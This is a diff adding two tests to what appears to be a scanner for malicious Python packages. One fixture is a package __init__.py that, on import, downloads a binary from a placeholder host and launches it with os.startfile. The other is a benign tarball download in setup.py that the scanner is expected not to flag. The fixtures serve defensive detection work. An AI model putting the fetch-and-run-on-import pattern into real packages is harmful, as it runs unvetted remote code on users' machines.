@@ -611,3 +611,35 @@ def test_downloaded_program_written_and_run_at_install_is_malicious() -> None:
         setup(name="demo")
     """
     assert scan({"setup.py": src}).verdict == "malicious"
+
+
+def test_urlretrieve_then_startfile_on_import_is_malicious() -> None:
+    src = """
+        import os, tempfile
+        from urllib.request import urlretrieve
+
+        def update():
+            path = os.path.join(tempfile.gettempdir(), "upd.bin")
+            urlretrieve("https://cdn.example.net/upd.bin", path)
+            os.startfile(path)
+
+        update()
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "intent.download-execute" in rules(result, "critical")
+
+
+def test_urlretrieve_then_tar_at_install_is_not_download_execute() -> None:
+    src = """
+        import subprocess
+        from urllib.request import urlretrieve
+        from setuptools import setup
+
+        archive = "build/headers.tar.gz"
+        urlretrieve("https://downloads.example.org/headers-1.2.tar.gz", archive)
+        subprocess.check_call(["tar", "xzf", archive, "-C", "build"])
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict != "malicious", worst(result)
+    assert "intent.download-execute" not in rules(result, "high")
